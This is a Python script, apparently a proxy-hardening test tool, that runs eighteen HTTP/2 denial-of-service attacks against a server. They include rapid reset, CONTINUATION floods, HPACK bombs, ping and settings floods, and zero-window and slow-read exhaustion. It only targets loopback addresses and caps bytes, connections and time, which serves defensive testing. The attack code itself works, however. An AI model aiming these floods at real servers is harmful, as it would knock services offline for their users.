"""Attacks a proxy over HTTP/2, one way at a time, for a bounded time and number of bytes.

Frames are made with the parts of the h2 package, so that nothing holds them to the rules.
Prints one JSON object: bytes sent, connections made, and what the proxy did about it.

    http2_attack.py ATTACK ADDRESS HOST SECONDS

Only addresses of 127.0.0.0/8 are attacked.
"""

import ipaddress
import itertools
import json
import selectors
import socket
import sys
import time

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Of one run: what is sent, and connections one after another.
MAX_BYTES = 16 * 1024 * 1024
MAX_CONNECTIONS = 400
# Written at once, so that frames arrive in crowds.
CROWD = 16 * 1024
WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE
BUFFER = 64 * 1024


class Run:
    """Where to, how long still, and what has happened so far."""

    def __init__(self, address, host, seconds):
        ip, port = address.rsplit(":", 1)
        if ipaddress.ip_address(ip) not in ipaddress.ip_network("127.0.0.0/8"):
            sys.exit(f"{address} is not on loopback")
        self.address = (ip, int(port))
        self.host = host
        self.ends = time.monotonic() + seconds
        self.sent = 0
        self.connections = 0
        self.closed = 0
        self.goaways = {}
        self.resets = {}
        self.answers = 0
        # Held open to the end.
        self.streams = 0

    def goes_on(self):
        return (
            time.monotonic() < self.ends
            and self.sent < MAX_BYTES
            and self.connections < MAX_CONNECTIONS
        )

    def found(self):
        return {
            "sent": self.sent,
            "connections": self.connections,
            "closed": self.closed,
            "goaways": self.goaways,
            "resets": self.resets,
            "answers": self.answers,
            "streams": self.streams,
        }


class Connection:
    """One connection that keeps no rule."""

    def __init__(self, run, settings=None, reads=True):
        self.run = run
        self.reads = reads
        self.encoder = Encoder()
        self.streams = itertools.count(1, 2)
        self.open = True
        self.received = b""
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if not reads:
            # So that what it does not read is soon the proxy's to keep.
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(5)
        self.socket.connect(run.address)
        self.socket.setblocking(False)
        self.selector = selectors.DefaultSelector()
        self.selector.register(self.socket, selectors.EVENT_READ)
        run.connections += 1
        self.send(PREFACE + frame(SettingsFrame(0, settings=settings or {})))

    def head(self, path="/", method="GET", extra=(), never=False):
        fields = [
            (":method", method),
            (":scheme", "http"),
            (":path", path),
            (":authority", self.run.host),
        ]
        return self.encoder.encode(fields + list(extra), huffman=not never)

    def get(self, stream, path="/", extra=()):
        return headers(stream, self.head(path, extra=extra), "END_STREAM", "END_HEADERS")

    def post(self, stream, path="/", extra=()):
        return headers(stream, self.head(path, "POST", extra), "END_HEADERS")

    def send(self, data):
        """All of it, unless the proxy has closed or the time is over."""
        view = memoryview(data)
        while view and self.open and time.monotonic() < self.run.ends:
            self.selector.modify(
                self.socket,
                selectors.EVENT_WRITE | (selectors.EVENT_READ if self.reads else 0),
            )
            for _, events in self.selector.select(0.2):
                if events & selectors.EVENT_READ:
                    self.read()
                if events & selectors.EVENT_WRITE and self.open:
                    try:
                        count = self.socket.send(view[:CROWD])
                    except BlockingIOError:
                        continue
                    except OSError:
                        self.closed()
                        break
                    self.run.sent += count
                    view = view[count:]
        return self.open

    def listen(self, seconds):
        """Reads what comes in this time."""
        if not self.open:
            return False
        ends = min(time.monotonic() + seconds, self.run.ends)
        self.selector.modify(self.socket, selectors.EVENT_READ)
        while self.open and time.monotonic() < ends:
            if self.selector.select(min(0.1, max(0, ends - time.monotonic()))):
                self.read()
        return self.open

    def read(self):
        try:
            data = self.socket.recv(BUFFER)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.closed()
            return
        self.received += data
        while len(self.received) >= 9:
            read, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                return
            read.parse_body(memoryview(self.received[9 : 9 + length]))
            self.received = self.received[9 + length :]
            self.note(read)

    def note(self, read):
        run = self.run
        if isinstance(read, GoAwayFrame):
            run.goaways[read.error_code] = run.goaways.get(read.error_code, 0) + 1
        elif isinstance(read, RstStreamFrame):
            run.resets[read.error_code] = run.resets.get(read.error_code, 0) + 1
        elif isinstance(read, HeadersFrame):
            run.answers += 1
        elif isinstance(read, PingFrame) and "ACK" not in read.flags:
            self.send(frame(PingFrame(0, read.opaque_data, flags=["ACK"])))

    def closed(self):
        if self.open:
            self.open = False
            self.run.closed += 1
            self.leave()

    def leave(self):
        self.open = False
        self.selector.close()
        self.socket.close()

    def flood(self, crowd):
        """Sends crowds until the proxy closes or the run is over."""
        while self.run.goes_on() and self.send(crowd()):
            pass
        self.listen(0.2)


def frame(it):
    return it.serialize()


def headers(stream, block, *flags):
    return frame(HeadersFrame(stream, block, flags=list(flags)))


def crowd_of(make, size=CROWD):
    """Frames of one kind up to about this many bytes."""
    parts, length = [], 0
    while length < size:
        part = make()
        parts.append(part)
        length += len(part)
    return b"".join(parts)


def again(run, attack, **options):
    """The same over new connections for as long as the run goes on."""
    while run.goes_on():
        connection = Connection(run, **options)
        attack(connection)
        if connection.open:
            connection.leave()


def rapid_reset(run):
    """Requests that are cancelled in the same breath."""

    def attack(connection):
        def pair():
            stream = next(connection.streams)
            return connection.get(stream) + frame(RstStreamFrame(stream, 8))

        connection.flood(lambda: crowd_of(pair))

    again(run, attack)


def late_reset(run):
    """Requests that are cancelled when they have been begun."""

    def attack(connection):
        while run.goes_on() and connection.open:
            streams = [next(connection.streams) for _ in range(50)]
            connection.send(b"".join(connection.get(it, "/slow") for it in streams))
            connection.listen(0.02)
            connection.send(b"".join(frame(RstStreamFrame(it, 8)) for it in streams))

    again(run, attack)


def made_you_reset(run):
    """Requests that the proxy itself has to reset, because of what follows."""

    def attack(connection):
        def pair():
            stream = next(connection.streams)
            return connection.get(stream, "/slow") + frame(WindowUpdateFrame(stream, window_increment=2**31 - 1))

        connection.flood(lambda: crowd_of(pair))

    again(run, attack)


def continuation(run):
    """A head without an end."""

    def attack(connection):
        stream = next(connection.streams)
        connection.send(headers(stream, connection.head()))
        field = Encoder().encode([NeverIndexedHeaderTuple("x", "y" * 100)], huffman=False)
        connection.flood(lambda: crowd_of(lambda: frame(ContinuationFrame(stream, field))))

    again(run, attack)


def empty_continuation(run):
    def attack(connection):
        stream = next(connection.streams)
        connection.send(headers(stream, connection.head()))
        connection.flood(lambda: crowd_of(lambda: frame(ContinuationFrame(stream, b""))))

    again(run, attack)


def settings_flood(run):
    def attack(connection):
        connection.flood(lambda: crowd_of(lambda: frame(SettingsFrame(0, settings={WINDOW: 65535}))))

    again(run, attack, reads=False)


def ping_flood(run):
    def attack(connection):
        connection.flood(lambda: crowd_of(lambda: frame(PingFrame(0, b"12345678"))))

    again(run, attack, reads=False)


def priority_flood(run):
    def attack(connection):
        numbers = itertools.count(1, 2)
        connection.flood(
            lambda: crowd_of(
                lambda: frame(PriorityFrame(next(numbers) % 2**31, depends_on=0, stream_weight=7))
            )
        )

    again(run, attack)


def hpack_bomb(run):
    """One byte for each of many copies of a large field; answers are pinned."""

    def attack(connection):
        large = [("x-bomb", "b" * 3900)]
        connection.send(connection.get(next(connection.streams), extra=large))
        for _ in range(99):
            if not connection.open or not run.goes_on():
                return
            # After the first it is the newest in the table: index 62, in one byte.
            block = connection.head() + b"\xbe" * 8_000
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            stream = next(connection.streams)
            data = headers(stream, parts[0], "END_STREAM", *(["END_HEADERS"] if len(parts) == 1 else []))
            connection.send(data)
        connection.listen(0.5)

    again(run, attack, settings={WINDOW: 0})


def crumb_bomb(run):
    """Many crumbs of a cookie, a byte each, in every stream of some connections."""
    kept = []
    while len(kept) < 8 and run.goes_on():
        connection = Connection(run, settings={WINDOW: 0})
        kept.append(connection)
        crumb = [("cookie", "a=1")]
        connection.send(connection.get(next(connection.streams), extra=crumb))
        block = connection.head()
        for _ in range(99):
            if not connection.open:
                break
            crumbs = block + b"\xbe" * 1_000
            connection.send(headers(next(connection.streams), crumbs, "END_STREAM", "END_HEADERS"))
        connection.listen(0)
    for connection in kept:
        if connection.open:
            connection.listen(0.02)
    wait_out(run, kept)


def empty_data(run):
    """A body of nothing, without an end."""

    def attack(connection):
        stream = next(connection.streams)
        connection.send(connection.post(stream, "/slow"))
        connection.flood(lambda: crowd_of(lambda: frame(DataFrame(stream, b""))))

    again(run, attack)


def tiny_data(run):
    """A body of one byte for each frame."""

    def attack(connection):
        stream = next(connection.streams)
        connection.send(connection.post(stream))
        while run.goes_on() and connection.open:
            connection.send(crowd_of(lambda: frame(DataFrame(stream, b"x"))))
            connection.listen(0)

    again(run, attack)


def zero_window(run):
    """Answers that are asked for and never taken."""
    kept = []
    for _ in range(4):
        connection = Connection(run, settings={WINDOW: 0})
        kept.append(connection)
        run.streams += 50
        connection.send(
            b"".join(connection.get(next(connection.streams), "/large") for _ in range(50))
        )
    wait_out(run, kept)


def one_byte_window(run):
    """Answers that are taken a byte at a time."""
    connection = Connection(run, settings={WINDOW: 1})
    streams = [next(connection.streams) for _ in range(50)]
    connection.send(b"".join(connection.get(it, "/large") for it in streams))
    while run.goes_on() and connection.open:
        connection.listen(0.3)
        connection.send(
            b"".join(frame(WindowUpdateFrame(it, window_increment=1)) for it in streams)
        )


def no_reading(run):
    """A client that stops reading altogether."""
    connection = Connection(run, settings={WINDOW: 2**31 - 1}, reads=False)
    connection.send(frame(WindowUpdateFrame(0, window_increment=2**31 - 65536)))
    connection.send(
        b"".join(connection.get(next(connection.streams), "/large") for _ in range(50))
    )
    while run.goes_on() and connection.open:
        time.sleep(0.3)
        connection.send(frame(PingFrame(0, b"12345678")))


def stream_hog(run):
    """As many bodies as there may be streams, and none of them ends."""
    connection = Connection(run)
    connection.send(
        b"".join(connection.post(next(connection.streams), "/slow") for _ in range(100))
    )
    wait_out(run, [connection])


def over_streams(run):
    """More streams than were allowed."""

    def attack(connection):
        for _ in range(50):
            if connection.open and run.goes_on():
                streams = [next(connection.streams) for _ in range(200)]
                connection.send(b"".join(connection.get(it, "/slow") for it in streams))
        connection.listen(0.5)

    again(run, attack)


def silence(run):
    """Connections that say HTTP/2 and nothing more."""
    wait_out(run, [Connection(run) for _ in range(200)])


def wait_out(run, connections):
    """Until the proxy has had enough, or the run is over."""
    while time.monotonic() < run.ends and any(it.open for it in connections):
        for connection in connections:
            if connection.open:
                connection.listen(0.005)
        time.sleep(0.05)


ATTACKS = {
    attack.__name__: attack
    for attack in [
        rapid_reset,
        late_reset,
        made_you_reset,
        continuation,
        empty_continuation,
        settings_flood,
        ping_flood,
        priority_flood,
        hpack_bomb,
        crumb_bomb,
        empty_data,
        tiny_data,
        zero_window,
        one_byte_window,
        no_reading,
        stream_hog,
        over_streams,
        silence,
    ]
}


def main(name, address, host, seconds):
    run = Run(address, host, float(seconds))
    try:
        ATTACKS[name](run)
    except (ConnectionError, TimeoutError) as error:
        # Being refused is an answer too.
        run.closed += 1
        print(error, file=sys.stderr)
    print(json.dumps(run.found()))


if __name__ == "__main__":
    main(*sys.argv[1:])
